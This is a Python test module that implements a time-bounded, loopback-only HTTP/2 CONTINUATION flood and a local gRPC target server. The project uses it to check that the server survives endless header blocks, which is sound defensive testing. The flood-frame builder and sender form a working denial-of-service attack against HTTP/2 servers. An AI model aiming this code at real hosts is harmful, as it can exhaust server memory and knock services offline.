"""
A bounded loopback HTTP/2 CONTINUATION flood, and a gRPC server to aim it at.

The attack (issue 9, "Abuse the port must survive"): a HEADERS frame that
never ends (no END_HEADERS flag), followed by CONTINUATION frames of 16 KB
on the same stream for as long as the attacker likes.  An HTTP/2 server
must hold the whole header block before it can act on it, so a server that
does not bound the block grows until it dies.

L{continuation_flood} sends it, on a few TLS connections, for a bounded
number of seconds, to 127.0.0.1 only.  L{FloodTarget} starts a C{grpc.aio}
server in a child process (so that its RSS is its own), with sentry_tx's
channel arguments plus any under test, and answers one method so that an
honest call can be seen to pass.  C{bench/flood_continuation.py} and
C{tests/test_flood.py} use both.

Everything here blocks: run it in a thread, never on the reactor.
"""

import json
import os
import socket
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from typing import IO, Any, Self

from sentry_tx.testing.http2 import (
    HTTP2_CLIENT_PREFACE,
    HTTP2_FLAG_ACK,
    HTTP2_HEADERS,
    HTTP2_SETTINGS,
    _hpack_literal,
    http2_frame,
)

HTTP2_CONTINUATION = 0x9
HTTP2_DEFAULT_MAX_FRAME_BYTES = 16384
"""
The largest frame payload a peer must accept without a SETTINGS change
(RFC 9113 section 4.2): the attack's CONTINUATION frames are this big.
"""

FLOOD_METHOD = "/dapr.proto.sentry.v1.CA/SignCertificate"
FLOOD_TARGET_LIFETIME_SECONDS = 120.0
"""
A L{FloodTarget} child exits by itself after this long, whatever happens to
its parent.
"""

PAYLOAD_HEADERS = "headers"
PAYLOAD_LITERAL = "literal"
PAYLOADS = (PAYLOAD_HEADERS, PAYLOAD_LITERAL)
"""
What the CONTINUATION frames carry: complete small header fields, one after
another (C{headers}), or the body of one header value that declares a length
of a gigabyte and never ends (C{literal}).
"""

_LOOPBACK = ("127.0.0.1", "::1", "localhost")


def _request_block() -> bytes:
    # The header block of a real gRPC call, without END_HEADERS.
    return b"".join(
        _hpack_literal(name, value)
        for name, value in (
            (b":method", b"POST"),
            (b":scheme", b"https"),
            (b":path", FLOOD_METHOD.encode("ascii")),
            (b":authority", b"dapr-sentry"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        )
    )


def _hpack_length(value: int) -> bytes:
    # An HPACK string length (7-bit prefix, no Huffman), RFC 7541 5.1.
    if value < 0x7F:
        return bytes([value])
    out = bytearray([0x7F])
    value -= 0x7F
    while value >= 0x80:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def flood_frames(
    payload: str, frame_bytes: int = HTTP2_DEFAULT_MAX_FRAME_BYTES, stream_id: int = 1
) -> tuple[bytes, bytes]:
    """
    The opening HEADERS frame of the flood and the CONTINUATION frame it
    repeats.

    @param payload: one of L{PAYLOADS}.
    @param frame_bytes: the payload size of each CONTINUATION frame.
    @return: C{(headers_frame, continuation_frame)}, C{bytes}; neither has
        END_HEADERS, so the header block never ends.
    """
    block = _request_block()
    if payload == PAYLOAD_HEADERS:
        field = _hpack_literal(b"x-flood", b"a" * 240)
        body = field * (frame_bytes // len(field))
    elif payload == PAYLOAD_LITERAL:
        # "Literal without indexing, new name", a name, then a value that
        # says it is 1 GiB long: every CONTINUATION carries more of it.
        block += b"\x00" + _hpack_length(7) + b"x-flood" + _hpack_length(1 << 30)
        body = b"a" * frame_bytes
    else:
        raise ValueError(f"unknown payload {payload!r} (one of {PAYLOADS})")
    headers = http2_frame(HTTP2_HEADERS, 0, stream_id, block)
    continuation = http2_frame(HTTP2_CONTINUATION, 0, stream_id, body)
    return headers, continuation


@dataclass
class FloodResult:
    """
    What one connection of a flood did.

    @ivar sent_bytes: CONTINUATION bytes written.
    @ivar closed_after_seconds: when the server closed or reset the
        connection, seconds after the flood started; L{None} if it stayed
        open to the end.
    @ivar stalled: whether a write blocked for the whole write timeout (the
        server stopped reading).
    """

    sent_bytes: int = 0
    closed_after_seconds: float | None = None
    stalled: bool = False


class _Countdown:
    """
    Sets C{event} once C{count} connections have each started flooding (or
    ended before they could).
    """

    def __init__(self, count: int, event: threading.Event) -> None:
        self._left = count
        self._event = event
        self._lock = threading.Lock()

    def done(self) -> None:
        with self._lock:
            self._left -= 1
            if self._left == 0:
                self._event.set()


def _flood_one(
    host: str,
    port: int,
    anchors_pem: bytes,
    server_name: str,
    payload: str,
    deadline: float,
    result: FloodResult,
    countdown: _Countdown,
) -> None:
    context = ssl.create_default_context(cadata=anchors_pem.decode("ascii"))
    context.set_alpn_protocols(["h2"])
    start = time.monotonic()
    headers, continuation = flood_frames(payload)
    started: _Countdown | None = countdown
    try:
        raw = socket.create_connection((host, port), timeout=5.0)
        with context.wrap_socket(raw, server_hostname=server_name) as connection:
            connection.sendall(
                HTTP2_CLIENT_PREFACE
                + http2_frame(HTTP2_SETTINGS)
                + http2_frame(HTTP2_SETTINGS, HTTP2_FLAG_ACK)
                + headers
            )
            # Writes only: what the server sends back (its SETTINGS, a
            # GOAWAY) is left unread; a closed connection shows as a failed
            # write.  A write that cannot finish within a second means the
            # server stopped reading, which bounds the attack as well.
            connection.settimeout(1.0)
            connection.sendall(continuation)
            result.sent_bytes += len(continuation)
            countdown.done()
            started = None
            while time.monotonic() < deadline:
                connection.sendall(continuation)
                result.sent_bytes += len(continuation)
    except TimeoutError:
        result.stalled = True
    except (OSError, ssl.SSLError):
        result.closed_after_seconds = time.monotonic() - start
    finally:
        if started is not None:
            started.done()


def continuation_flood(
    host: str,
    port: int,
    anchors_pem: bytes,
    server_name: str,
    connections: int = 4,
    seconds: float = 8.0,
    payload: str = PAYLOAD_HEADERS,
    flooding: threading.Event | None = None,
) -> list[FloodResult]:
    """
    Flood C{host}:C{port} with endless header blocks for C{seconds}.

    Each of C{connections} TLS connections (ALPN h2, verified against
    C{anchors_pem}) sends the client preface, a HEADERS frame without
    END_HEADERS, then 16 KB CONTINUATION frames on the same stream until
    the time is up, the server closes it, or the server stops reading.

    @param host: a loopback address; anything else is refused.
    @param flooding: a C{threading.Event}, set once every connection has
        sent its first CONTINUATION frame (or failed before it could).
    @return: a list of L{FloodResult}, one per connection.
    @raise ValueError: for a host that is not loopback.
    """
    if host not in _LOOPBACK:
        raise ValueError(f"floods go to loopback only, not {host!r}")
    deadline = time.monotonic() + seconds
    results = [FloodResult() for _ in range(connections)]
    started = _Countdown(connections, flooding or threading.Event())
    threads = [
        threading.Thread(
            target=_flood_one,
            args=(
                host,
                port,
                anchors_pem,
                server_name,
                payload,
                deadline,
                result,
                started,
            ),
            daemon=True,
        )
        for result in results
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        # Each flood ends at the deadline; its last write times out a
        # second later at most.
        thread.join(seconds + 10.0)
    return results


def read_peak_rss_bytes(pid: int) -> int | None:
    """
    The peak resident set size of process C{pid} so far (C{VmHWM}).

    @return: bytes, or L{None} if the process is gone.
    """
    return _read_status_bytes(pid, b"VmHWM:")


def read_rss_bytes(pid: int) -> int | None:
    """
    The resident set size of process C{pid}, from C{/proc/<pid>/status}.

    @return: bytes, or L{None} if the process is gone.
    """
    return _read_status_bytes(pid, b"VmRSS:")


def _read_status_bytes(pid: int, field: bytes) -> int | None:
    try:
        with open(f"/proc/{pid}/status", "rb") as status:
            for line in status:
                if line.startswith(field):
                    return int(line.split()[1]) * 1024
    except (OSError, ValueError, IndexError):
        return None
    return None


class FloodTarget:
    """
    A C{grpc.aio} server in a child process, on 127.0.0.1 port 0, over TLS,
    with sentry_tx's channel arguments (L{grpc_server_options}) but those
    named in C{without}, plus C{extra_options} (which replace defaults of the
    same name).  It answers L{FLOOD_METHOD} with an empty message.

    Use it as a context manager; the child also exits by itself after
    L{FLOOD_TARGET_LIFETIME_SECONDS}, or when its standard input closes.

    @ivar port: the port it serves on.
    @ivar pid: the child's process id.
    @ivar anchors_pem: the PEM of the certificate to trust.
    @ivar server_name: the name that certificate holds.
    """

    server_name = "localhost"

    def __init__(
        self,
        extra_options: Iterable[Sequence[object]] = (),
        without: Iterable[str] = (),
    ) -> None:
        self._extra_options = [list(option) for option in extra_options]
        self._without = list(without)

    def __enter__(self) -> Self:
        from cryptography.hazmat.primitives import serialization

        from sentry_tx.testing.kubeconfig import make_self_signed_server_certificate

        certificate, key = make_self_signed_server_certificate(
            hosts=("127.0.0.1", self.server_name)
        )
        self.anchors_pem = certificate.public_bytes(serialization.Encoding.PEM)
        key_pem = key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
        spec = json.dumps(
            {
                "options": self._extra_options,
                "without": self._without,
                "certificate": self.anchors_pem.decode("ascii"),
                "key": key_pem.decode("ascii"),
            }
        )
        self._process = subprocess.Popen(
            [sys.executable, "-m", "sentry_tx.testing.flood"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            env={**os.environ, "PYTHONUNBUFFERED": "1"},
        )
        self.pid = self._process.pid
        try:
            stdin, _ = self._pipes()
            stdin.write(spec.encode("ascii") + b"\n")
            stdin.flush()
            line = self._read_line(30.0)
            self.port = int(line)
        except BaseException:
            self.__exit__(None, None, None)
            raise
        return self

    def _pipes(self) -> tuple[IO[bytes], IO[bytes]]:
        """
        The child's standard input and output (both pipes).
        """
        stdin, stdout = self._process.stdin, self._process.stdout
        if stdin is None or stdout is None:
            raise RuntimeError("the flood target has no pipes")
        return stdin, stdout

    def _read_line(self, timeout: float) -> bytes:
        box: list[bytes] = []
        _, stdout = self._pipes()
        reader = threading.Thread(
            target=lambda: box.append(stdout.readline()), daemon=True
        )
        reader.start()
        reader.join(timeout)
        if not box or not box[0]:
            raise RuntimeError("the flood target did not start")
        return box[0]

    def rss_bytes(self) -> int | None:
        """
        The child's resident set size now, in bytes (L{None} once it exited).
        """
        return read_rss_bytes(self.pid)

    def peak_rss_bytes(self) -> int | None:
        """
        The child's peak resident set size so far, in bytes.
        """
        return read_peak_rss_bytes(self.pid)

    def honest_call(self, timeout: float = 5.0) -> str | None:
        """
        Make one ordinary call with grpcio's client on a new connection.

        @return: L{None} when it was answered, else the failure's text.
        """
        import grpc

        channel = grpc.secure_channel(
            f"127.0.0.1:{self.port}",
            grpc.ssl_channel_credentials(root_certificates=self.anchors_pem),
            options=[("grpc.ssl_target_name_override", self.server_name)],
        )
        try:
            call: grpc.UnaryUnaryMultiCallable[bytes, bytes] = channel.unary_unary(
                FLOOD_METHOD
            )
            call(b"", timeout=timeout)
        except grpc.RpcError as e:
            return f"{e.code().name}: {e.details()}"
        finally:
            channel.close()
        return None

    def __exit__(self, *exc_info: object) -> None:
        process = self._process
        stdin, stdout = self._pipes()
        try:
            stdin.close()
        except OSError:
            pass
        try:
            process.wait(10.0)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait(10.0)
        stdout.close()


def _serve(spec: dict[str, Any]) -> None:
    """
    The child of L{FloodTarget}: serve until stdin closes or the lifetime
    ends.
    """
    import asyncio

    import grpc

    from sentry_tx.server.service import grpc_server_options

    options = [tuple(option) for option in spec["options"]]
    left_out = {name for name, _ in options} | set(spec["without"])
    options = [
        option for option in grpc_server_options() if option[0] not in left_out
    ] + options

    async def answer(
        request: bytes, context: "grpc.aio.ServicerContext[Any, Any]"
    ) -> bytes:
        return b""

    handler = grpc.method_handlers_generic_handler(
        FLOOD_METHOD.split("/")[1],
        {FLOOD_METHOD.split("/")[2]: grpc.unary_unary_rpc_method_handler(answer)},
    )

    async def main() -> None:
        server = grpc.aio.server(options=options)
        server.add_generic_rpc_handlers((handler,))
        credentials = grpc.ssl_server_credentials(
            [(spec["key"].encode("ascii"), spec["certificate"].encode("ascii"))]
        )
        port = server.add_secure_port("127.0.0.1:0", credentials)
        await server.start()
        sys.stdout.write(f"{port}\n")
        sys.stdout.flush()
        loop = asyncio.get_running_loop()
        stdin_closed = loop.run_in_executor(None, sys.stdin.buffer.read)
        try:
            await asyncio.wait_for(stdin_closed, FLOOD_TARGET_LIFETIME_SECONDS)
        except TimeoutError:
            pass
        await server.stop(0)

    asyncio.run(main())
    # The executor thread may still block on stdin after a timeout.
    os._exit(0)


if __name__ == "__main__":
    _serve(json.loads(sys.stdin.readline()))
